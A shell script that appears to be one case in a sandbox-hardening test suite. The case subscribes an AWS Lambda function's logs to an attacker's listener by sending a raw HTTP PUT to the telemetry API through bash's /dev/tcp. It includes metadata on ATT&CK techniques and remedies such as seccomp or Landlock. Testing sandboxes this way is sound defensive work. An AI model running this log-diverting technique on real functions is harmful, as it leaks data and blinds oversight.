# SPDX-License-Identifier: MIT
# shellcheck shell=sh disable=SC2016,SC2034,SC2154
#
# Goal:  the function's logs, which every later student writes to, go to the attacker's host.
# Means: PUT .../telemetry, from a shell: bash opens a TCP connection for a redirection to /dev/tcp,
#        so no network program has to be installed and no library is loaded.

effect="the function's logs are sent to the attacker's host"
means="PUT .../telemetry through bash's /dev/tcp"
oracle=api:telemetry
needs=bash
id=LAPI-04
attack_id="T1562.008, T1059.004, CWE-306"
remedy="seccomp without socket, or Landlock without connect_tcp; no shell"
refs="AWS Lambda telemetry API, Subscribe
bash(1), REDIRECTION"

# Run by bash, with the ports of the interface and of the listener as arguments.
subscribe='
body="{\"destination\": {\"protocol\": \"TCP\", \"port\": $2}, \"types\": [\"function\"]}"
exec 3<>"/dev/tcp/127.0.0.1/$1" || exit 1
printf "PUT /2022-07-01/telemetry HTTP/1.1\r\nHost: 127.0.0.1\r\n" >&3
printf "Content-Length: %d\r\n\r\n%s" "${#body}" "$body" >&3
read -r -t 3 line <&3 && echo "$line"
'

attack() {
	attempting
	bash -c "$subscribe" telemetry "$api" "$sink" || denied "/dev/tcp"
}

. "${0%/*}/../attack.sh"
